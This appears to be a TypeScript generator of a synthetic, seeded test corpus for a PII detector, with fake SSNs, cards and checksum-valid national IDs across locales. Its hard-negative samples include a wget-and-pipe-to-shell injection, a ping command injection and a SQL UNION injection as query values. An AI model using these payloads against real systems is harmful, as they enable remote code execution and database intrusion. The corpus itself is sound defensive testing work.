// A labelled PII corpus generated with @faker-js/faker across locales: sentences, JSON
// bodies with realistic field names, query strings and field names, plus hard negatives
// (addresses with house numbers, order numbers, timestamps, versions, coordinates,
// tracking cookies, prices, ids that pass Luhn, scanner paths, IPs in attack payloads).
// The same seed gives the same corpus; development and validation use disjoint seeds.
import { allFakers, type Faker } from '@faker-js/faker';
import type { PiiType } from '../src/index.js';

export const CORE_TYPES = ['ssn', 'email', 'phone', 'credit_card', 'national_id', 'dob'] as const;

/** One labelled sample: how it is scanned, and the PII types it really holds. */
export interface ValueSample {
  kind: 'text' | 'json' | 'query' | 'path';
  input: string;
  labels: PiiType[];
  /** What generated it (for listing misses). */
  source: string;
}

export interface FieldSample {
  name: string;
  parent?: string;
  label: PiiType | null;
}

const LOCALES = ['en_US', 'en_GB', 'de', 'fr', 'es', 'pt_BR', 'ja', 'it', 'en_IN'] as const;
type Locale = (typeof LOCALES)[number];

const PHONE_TEMPLATES: Record<Locale, string[]> = {
  en_US: ['Call me at {v}', 'Phone: {v}', 'You can reach me on {v} after 5pm.', 'My mobile number is {v}.'],
  en_GB: ['Tel: {v}', 'Ring me on {v}', 'Mobile: {v}', 'Contact number {v}'],
  de: ['Telefon: {v}', 'Rufen Sie mich unter {v} an', 'Handy {v}', 'Tel. {v}'],
  fr: ['Téléphone : {v}', 'Appelez-moi au {v}', 'Portable : {v}'],
  es: ['Teléfono: {v}', 'Llámame al {v}', 'Móvil: {v}'],
  pt_BR: ['Telefone: {v}', 'Meu celular é {v}', 'Ligue para {v}'],
  ja: ['電話番号: {v}', '携帯: {v}', 'お電話は{v}まで'],
  it: ['Telefono: {v}', 'Cellulare {v}', 'Chiamami al {v}'],
  en_IN: ['Mobile: {v}', 'Call {v}', 'Phone no. {v}'],
};
const BIRTH_TEMPLATES: Record<Locale, string[]> = {
  en_US: ['My date of birth is {v}.', 'Born on {v}', 'DOB: {v}'],
  en_GB: ['Date of birth: {v}', 'I was born on {v}.', 'D.O.B. {v}'],
  de: ['Geburtsdatum: {v}', 'geboren am {v}'],
  fr: ['Date de naissance : {v}', 'née le {v}'],
  es: ['Fecha de nacimiento: {v}', 'Nacido el {v}'],
  pt_BR: ['Data de nascimento: {v}', 'Nascida em {v}'],
  ja: ['生年月日：{v}', '{v}生まれ'],
  it: ['Data di nascita: {v}', 'nato il {v}'],
  en_IN: ['DOB {v}', 'Date of Birth: {v}'],
};
const CARD_TEMPLATES = [
  'Card: {v}',
  'Paid with card {v}',
  'Please charge {v}',
  'Kartennummer {v}',
  'carte {v}',
  'tarjeta {v}',
];
const SSN_TEMPLATES = [
  'SSN: {v}',
  'My social security number is {v}.',
  'SSN {v} on file',
  'Social Security No. {v}',
];
const EMAIL_TEMPLATES = ['Write to {v}', 'E-Mail: {v}', 'contact: {v}', '{v} signed up', 'Courriel : {v}'];

const pad = (n: number, w: number) => String(n).padStart(w, '0');
const pick = <T>(f: Faker, list: readonly T[]): T => f.helpers.arrayElement(list as T[]);

function luhnDigit(body: string): string {
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    let d = Number(body[body.length - 1 - i]);
    if (i % 2 === 0) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return String((10 - (sum % 10)) % 10);
}

function ssn(f: Faker): string {
  let area = f.number.int({ min: 1, max: 899 });
  if (area === 666) area = 665;
  const group = f.number.int({ min: 1, max: 99 });
  const serial = f.number.int({ min: 1, max: 9999 });
  const sep = pick(f, ['-', '-', '-', ' ']);
  return `${pad(area, 3)}${sep}${pad(group, 2)}${sep}${pad(serial, 4)}`;
}

/** Valid national ids: Spanish DNI/NIE, UK NHS and NINO, Polish PESEL, Australian TFN. */
function nationalId(f: Faker): [string, string] {
  const kind = pick(f, ['dni', 'nie', 'nhs', 'nino', 'pesel', 'tfn'] as const);
  switch (kind) {
    case 'dni': {
      const n = f.number.int({ min: 1_000_000, max: 99_999_999 });
      return [`${pad(n, 8)}${'TRWAGMYFPDXBNJZSQVHLCKE'[n % 23]}`, 'DNI: {v}'];
    }
    case 'nie': {
      const p = f.number.int({ min: 0, max: 2 });
      const n = f.number.int({ min: 0, max: 9_999_999 });
      return [
        `${'XYZ'[p]}${pad(n, 7)}${'TRWAGMYFPDXBNJZSQVHLCKE'[Number(`${p}${pad(n, 7)}`) % 23]}`,
        'NIE {v}',
      ];
    }
    case 'nhs': {
      for (;;) {
        const d = f.string.numeric({ length: 9, allowLeadingZeros: false });
        let sum = 0;
        for (let i = 0; i < 9; i++) sum += Number(d[i]) * (10 - i);
        const c = 11 - (sum % 11);
        if (c === 10) continue;
        const full = d + String(c === 11 ? 0 : c);
        return [`${full.slice(0, 3)} ${full.slice(3, 6)} ${full.slice(6)}`, 'NHS number {v}'];
      }
    }
    case 'nino': {
      const first = pick(f, [...'ABCEHJKLMNOPRSTWXYZ']);
      const second = pick(f, [...'ABCEHJKLMNPRSTWXYZ']);
      const prefix = ['BG', 'GB', 'KN', 'NK', 'NT', 'TN', 'ZZ'].includes(first + second)
        ? 'AB'
        : first + second;
      return [
        `${prefix}${f.string.numeric(6)}${pick(f, ['A', 'B', 'C', 'D'])}`,
        'National Insurance number: {v}',
      ];
    }
    case 'pesel': {
      const date = f.date.birthdate({ min: 18, max: 80, mode: 'age' });
      const y = date.getUTCFullYear();
      const m = date.getUTCMonth() + 1 + (y >= 2000 ? 20 : 0);
      const head = `${pad(y % 100, 2)}${pad(m, 2)}${pad(date.getUTCDate(), 2)}${f.string.numeric(4)}`;
      const w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3];
      let sum = 0;
      for (let i = 0; i < 10; i++) sum += Number(head[i]) * (w[i] as number);
      return [head + String((10 - (sum % 10)) % 10), 'PESEL: {v}'];
    }
    case 'tfn': {
      const w = [1, 4, 3, 7, 5, 8, 6, 9, 10];
      for (;;) {
        const d = f.string.numeric(8);
        let sum = 0;
        for (let i = 0; i < 8; i++) sum += Number(d[i]) * (w[i] as number);
        for (let last = 0; last <= 9; last++)
          if ((sum + last * 10) % 11 === 0) {
            const full = d + String(last);
            return [`${full.slice(0, 3)} ${full.slice(3, 6)} ${full.slice(6)}`, 'TFN {v}'];
          }
      }
    }
  }
}

function birthDate(f: Faker, locale: Locale): string {
  const d = f.date.birthdate({ min: 18, max: 90, mode: 'age' });
  const [y, m, day] = [d.getUTCFullYear(), pad(d.getUTCMonth() + 1, 2), pad(d.getUTCDate(), 2)];
  switch (locale) {
    case 'en_US':
      return pick(f, [
        `${m}/${day}/${y}`,
        `${d.toLocaleString('en-US', { month: 'long', timeZone: 'UTC' })} ${Number(day)}, ${y}`,
      ]);
    case 'de':
      return `${day}.${m}.${y}`;
    case 'ja':
      return `${y}/${m}/${day}`;
    default:
      return pick(f, [`${day}/${m}/${y}`, `${y}-${m}-${day}`]);
  }
}

function phone(f: Faker, locale: Locale): string {
  if (locale === 'en_US' && f.number.int(4) === 0)
    return `${f.phone.number({ style: 'national' })}${pick(f, ['x', ' x', 'EXT', ' ext. '])}${f.string.numeric({ length: { min: 2, max: 4 } })}`;
  return f.phone.number({ style: pick(f, ['human', 'national', 'international'] as const) });
}

function card(f: Faker): string {
  const issuer = pick(f, ['visa', 'mastercard', 'amex', 'discover', 'jcb', 'diners_club'] as const);
  const n = f.finance.creditCardNumber(issuer).replace(/\D/g, '');
  return pick(f, [n, n.replace(/(\d{4})(?=\d)/g, '$1 '), n.replace(/(\d{4})(?=\d)/g, '$1-')]);
}

const fill = (template: string, v: string) => template.replace('{v}', v);

/** Positive samples of the six core types (and e-mails), in sentences and JSON bodies. */
function positives(f: Faker, locale: Locale): ValueSample[] {
  const out: ValueSample[] = [];
  const email = f.internet.email();
  out.push({
    kind: 'text',
    input: fill(pick(f, EMAIL_TEMPLATES), email),
    labels: ['email'],
    source: 'email text',
  });
  const p = phone(f, locale);
  out.push({
    kind: 'text',
    input: fill(pick(f, PHONE_TEMPLATES[locale]), p),
    labels: ['phone'],
    source: `phone ${locale}`,
  });
  const dob = birthDate(f, locale);
  out.push({
    kind: 'text',
    input: fill(pick(f, BIRTH_TEMPLATES[locale]), dob),
    labels: ['dob'],
    source: `dob ${locale}`,
  });
  const c = card(f);
  out.push({
    kind: 'text',
    input: fill(pick(f, CARD_TEMPLATES), c),
    labels: ['credit_card'],
    source: 'card text',
  });
  const s = ssn(f);
  out.push({ kind: 'text', input: fill(pick(f, SSN_TEMPLATES), s), labels: ['ssn'], source: 'ssn text' });
  const [id, idTemplate] = nationalId(f);
  out.push({
    kind: 'text',
    input: fill(idTemplate, id),
    labels: ['national_id'],
    source: `national id ${idTemplate}`,
  });
  // A JSON body as an API would send it.
  const person = {
    id: f.string.uuid(),
    first_name: f.person.firstName(),
    last_name: f.person.lastName(),
    [pick(f, ['email', 'emailAddress', 'contact_email'])]: email,
    [pick(f, ['phone', 'phoneNumber', 'mobile_no', 'telephone'])]: p,
    [pick(f, ['date_of_birth', 'dob', 'birthDate'])]: dob,
    created_at: f.date.recent().toISOString(),
  };
  out.push({
    kind: 'json',
    input: JSON.stringify(person),
    labels: ['email', 'phone', 'dob', 'name'],
    source: 'person json',
  });
  out.push({
    kind: 'json',
    input: JSON.stringify({
      order_id: f.string.numeric(10),
      payment: { [pick(f, ['card_number', 'pan', 'cc_num', 'number'])]: c, cvc: f.string.numeric(3) },
    }),
    labels: ['credit_card'],
    source: 'payment json',
  });
  out.push({
    kind: 'json',
    input: JSON.stringify({
      applicant: { [pick(f, ['ssn', 'social_security_no'])]: s.replace(/\D/g, '') },
      status: 'pending',
    }),
    labels: ['ssn'],
    source: 'ssn json (bare digits)',
  });
  out.push({
    kind: 'query',
    input: `email=${encodeURIComponent(email)}&page=${f.number.int(20)}`,
    labels: ['email'],
    source: 'email query',
  });
  return out;
}

/** Hard negatives: things that look like PII to a naive recogniser and are not. */
function negatives(f: Faker): ValueSample[] {
  const unix = f.number.int({ min: 1_500_000_000, max: 1_900_000_000 });
  const ip = f.internet.ipv4();
  const luhnId = (() => {
    const body = `${pick(f, ['7', '8', '9'])}${f.string.numeric(14)}`;
    return body + luhnDigit(body);
  })();
  const cardLikeId = (() => {
    const body = `4${f.string.numeric(14)}`;
    return body + luhnDigit(body);
  })();
  const list: [ValueSample['kind'], string, string][] = [
    ['text', `${f.location.streetAddress(true)}, ${f.location.zipCode()} ${f.location.city()}`, 'address'],
    ['text', `${f.location.buildingNumber()} ${f.location.street()} ${f.location.zipCode()}`, 'house number'],
    [
      'text',
      `Order #${f.string.numeric({ length: { min: 8, max: 12 }, allowLeadingZeros: false })} has shipped`,
      'order number',
    ],
    [
      'text',
      `Invoice ${f.string.numeric(4)}-${f.string.numeric(4)}-${f.string.numeric(4)}`,
      'invoice number',
    ],
    ['text', `Bestellnummer: ${f.string.numeric(10)}`, 'order number de'],
    ['text', `created ${unix} updated ${unix * 1000 + f.number.int(999)}`, 'timestamps'],
    ['text', `version ${f.system.semver()} build ${f.string.numeric(6)}`, 'version'],
    [
      'text',
      `Mozilla/5.0 Chrome/${f.number.int({ min: 90, max: 130 })}.0.${f.string.numeric(4)}.${f.string.numeric(3)} Safari/537.36`,
      'user agent',
    ],
    ['text', `${f.location.latitude()}, ${f.location.longitude()}`, 'coordinates'],
    [
      'text',
      `Total: ${f.finance.amount({ min: 1000, max: 99999, dec: 2, symbol: '$' })} (${f.finance.amount({ min: 100, max: 9999, dec: 2 })} EUR)`,
      'prices',
    ],
    ['text', `Transaction ${luhnId} settled`, 'id passing Luhn'],
    [
      'text',
      `ISBN 978-${f.string.numeric(1)}-${f.string.numeric(2)}-${f.string.numeric(6)}-${f.string.numeric(1)}`,
      'isbn',
    ],
    [
      'json',
      JSON.stringify({
        id: luhnId,
        order_id: cardLikeId,
        ts: unix,
        created: String(unix * 1000),
        amount: f.finance.amount(),
      }),
      'ids json',
    ],
    [
      'json',
      JSON.stringify({ lat: f.location.latitude(), lng: f.location.longitude(), zoom: f.number.int(18) }),
      'coordinates json',
    ],
    [
      'query',
      `__utmc=${f.string.numeric(9)}&__utmz=${f.string.numeric(9)}.${unix}.1.1.utmcsr=(direct)`,
      'tracking cookie',
    ],
    ['query', `_ga=GA1.2.${f.string.numeric(10)}.${unix}&utm_source=newsletter`, 'ga cookie'],
    ['query', `cmd=${encodeURIComponent(`;wget http://${ip}/x.sh|sh`)}`, 'ip in shell payload'],
    ['query', `host=${encodeURIComponent(`127.0.0.1; ping -c 3 ${ip}`)}`, 'ip in ping payload'],
    ['query', `id=${encodeURIComponent(`1' UNION SELECT '${ip}',2--`)}`, 'ip in sql payload'],
    ['path', `/nmaplowercheck${unix}`, 'scanner path'],
    ['path', `/static/app.${f.string.numeric(10)}.js`, 'asset with digits'],
    ['query', `v=${unix}&cb=${f.string.numeric(13)}`, 'cache busters'],
  ];
  return list.map(([kind, input, source]) => ({ kind, input, labels: [], source }));
}

/** The value corpus for one seed: every locale, positives and negatives. */
export function valueCorpus(seed: number, rounds = 30): ValueSample[] {
  const out: ValueSample[] = [];
  for (const locale of LOCALES) {
    const f = allFakers[locale];
    f.seed(seed * 7919 + LOCALES.indexOf(locale));
    for (let i = 0; i < rounds; i++) out.push(...positives(f, locale), ...negatives(f));
  }
  return out;
}

/** Concepts and the spellings APIs use for them (rendered in several cases and with suffixes). */
const FIELD_CONCEPTS: [PiiType, string[][]][] = [
  [
    'email',
    [
      ['email'],
      ['email', 'address'],
      ['contact', 'email'],
      ['user', 'email'],
      ['billing', 'email'],
      ['mail'],
    ],
  ],
  [
    'phone',
    [
      ['phone'],
      ['phone', 'number'],
      ['phone', 'no'],
      ['telephone', 'num'],
      ['mobile', 'phone'],
      ['mobile', 'number'],
      ['cell', 'phone'],
      ['tel'],
      ['home', 'phone'],
      ['work', 'phone', 'nbr'],
      ['msisdn'],
      ['contact', 'phone'],
    ],
  ],
  [
    'ssn',
    [
      ['ssn'],
      ['social', 'security', 'number'],
      ['social', 'security', 'no'],
      ['ssn', 'num'],
      ['customer', 'ssn'],
    ],
  ],
  [
    'dob',
    [['dob'], ['date', 'of', 'birth'], ['birth', 'date'], ['birthday'], ['birth', 'dt'], ['customer', 'dob']],
  ],
  [
    'credit_card',
    [
      ['card', 'number'],
      ['credit', 'card'],
      ['credit', 'card', 'num'],
      ['cc', 'num'],
      ['cc', 'number'],
      ['card', 'no'],
      ['pan'],
      ['cvv'],
      ['cvc'],
    ],
  ],
  [
    'national_id',
    [
      ['national', 'id'],
      ['national', 'id', 'number'],
      ['tax', 'id'],
      ['personal', 'id', 'number'],
      ['id', 'number'],
      ['tin'],
    ],
  ],
  // A country's id under its country's type.
  ['uk_nino', [['nino'], ['national', 'insurance', 'number']]],
  ['uk_nhs', [['nhs', 'number']]],
  ['br_cpf', [['cpf']]],
  ['passport', [['passport'], ['passport', 'number'], ['passport', 'no']]],
  [
    'driver_license',
    [
      ['driver', 'license'],
      ['drivers', 'license', 'number'],
      ['driving', 'licence'],
    ],
  ],
  ['iban', [['iban']]],
  // An account number is not an IBAN.
  [
    'bank_account',
    [
      ['bank', 'account'],
      ['bank', 'account', 'number'],
      ['account', 'number'],
    ],
  ],
  [
    'password',
    [
      ['password'],
      ['passwd'],
      ['pwd'],
      ['pass'],
      ['new', 'password'],
      ['current', 'password'],
      ['password', 'confirmation'],
    ],
  ],
  [
    'api_key',
    [
      ['api', 'key'],
      ['access', 'token'],
      ['refresh', 'token'],
      ['client', 'secret'],
      ['secret', 'key'],
      ['auth', 'token'],
    ],
  ],
  ['ip_address', [['ip'], ['ip', 'address'], ['client', 'ip'], ['remote', 'addr'], ['last', 'login', 'ip']]],
  [
    'address',
    [
      ['address'],
      ['street', 'address'],
      ['address', 'line', '1'],
      ['postal', 'code'],
      ['zip', 'code'],
      ['zip'],
      ['postcode'],
      ['po', 'box'],
      ['postal'],
      ['billing', 'address', 'line', '2'],
      ['shipping', 'postal', 'code'],
    ],
  ],
  [
    'name',
    [
      ['first', 'name'],
      ['last', 'name'],
      ['full', 'name'],
      ['fname'],
      ['lname'],
      ['surname'],
      ['given', 'name'],
      ['middle', 'name'],
      ['customer', 'name'],
      ['cardholder', 'name'],
    ],
  ],
];
/** Field names that are not PII, several of them close to PII names. */
const FIELD_NEGATIVES: string[][] = [
  ['id'],
  ['user', 'id'],
  ['order', 'number'],
  ['order', 'id'],
  ['created', 'at'],
  ['updated', 'at'],
  ['status'],
  ['title'],
  ['product', 'name'],
  ['file', 'name'],
  ['display', 'name'],
  ['username'],
  ['name', 'space'],
  ['email', 'verified'],
  ['phone', 'verified'],
  ['page', 'token'],
  ['next', 'page', 'token'],
  ['license'],
  ['mac', 'address'],
  ['wallet', 'address'],
  ['amount'],
  ['currency'],
  ['description'],
  ['card', 'brand'],
  ['card', 'last4'],
  ['timestamp'],
  ['version'],
  ['count'],
  ['is', 'mobile'],
  ['zip', 'file'],
  ['city'],
  ['country'],
  ['locale'],
  ['time', 'zone'],
  ['url'],
  ['callback', 'url'],
  ['tracking', 'number'],
  ['invoice', 'number'],
  ['account', 'id'],
  ['card', 'type'],
  ['boarding', 'pass'],
  ['phone', 'extension'],
];

/** Names whose owner the parent tells: a person's (labelled) or not (a machine, a thing, a company). */
const CONTEXT_CASES: [PiiType, string[][], string[], string[]][] = [
  [
    'ip_address',
    [['ip'], ['ip', 'address'], ['ipv4']],
    ['user', 'session', 'login', 'visitor'],
    ['host_aliases', 'load_balancer', 'node', 'ingress'],
  ],
  [
    'name',
    [
      ['full', 'name'],
      ['first', 'name'],
      ['last', 'name'],
    ],
    ['user', 'author', 'profile', 'assignee'],
    ['repository', 'organization', 'project', 'team'],
  ],
  [
    'national_id',
    [['tax', 'id'], ['tin'], ['national', 'id']],
    ['customer', 'person', 'applicant'],
    ['company', 'merchant', 'organization', 'seller'],
  ],
];

function render(f: Faker, words: string[]): string {
  const style = pick(f, ['snake', 'camel', 'kebab', 'pascal', 'upper_snake', 'flat'] as const);
  const cap = (w: string) => w.charAt(0).toUpperCase() + w.slice(1);
  switch (style) {
    case 'snake':
      return words.join('_');
    case 'camel':
      return words[0] + words.slice(1).map(cap).join('');
    case 'kebab':
      return words.join('-');
    case 'pascal':
      return words.map(cap).join('');
    case 'upper_snake':
      return words.join('_').toUpperCase();
    case 'flat':
      return words.join('');
  }
}

/** Field-name samples for one seed: concepts in random spellings, card/person leaves in context, negatives. */
export function fieldCorpus(seed: number, rounds = 20): FieldSample[] {
  const f = allFakers.en;
  f.seed(seed * 104729);
  const out: FieldSample[] = [];
  for (let i = 0; i < rounds; i++) {
    for (const [type, variants] of FIELD_CONCEPTS)
      out.push({ name: render(f, pick(f, variants)), label: type });
    for (const words of FIELD_NEGATIVES) out.push({ name: render(f, words), label: null });
    // A card's expiry is not its number.
    const leaf = pick(f, ['number', 'cvc', 'exp_month', 'expYear']);
    const cardLabel = (name: string) => (name.startsWith('exp') ? 'card_expiry' : 'credit_card');
    out.push({ name: leaf, parent: pick(f, ['card', 'payment_card']), label: cardLabel(leaf) });
    const flat = pick(f, ['number', 'cvc', 'exp_month', 'exp_year']);
    out.push({ name: `card[${flat}]`, label: cardLabel(flat) });
    out.push({
      name: 'name',
      parent: pick(f, ['billing_details', 'customer', 'shipping', 'cardholder']),
      label: 'name',
    });
    out.push({ name: 'number', parent: pick(f, ['order', 'invoice', 'page', 'build']), label: null });
    out.push({ name: 'name', parent: pick(f, ['product', 'plan', 'file', 'event', 'tag']), label: null });
    // Context: the same names belong to a person, or to a machine, a thing or a company.
    for (const [type, variants, people, others] of CONTEXT_CASES) {
      const words = pick(f, variants);
      out.push({ name: render(f, words), parent: pick(f, people), label: type });
      out.push({ name: render(f, words), parent: pick(f, others), label: null });
    }
    out.push({
      name: render(f, [pick(f, ['host', 'pod', 'cluster', 'server', 'private']), 'ip']),
      label: null,
    });
    out.push({ name: 'cc', parent: pick(f, ['home_phone', 'mobile_phone', 'work_phone']), label: null });
  }
  return out;
}
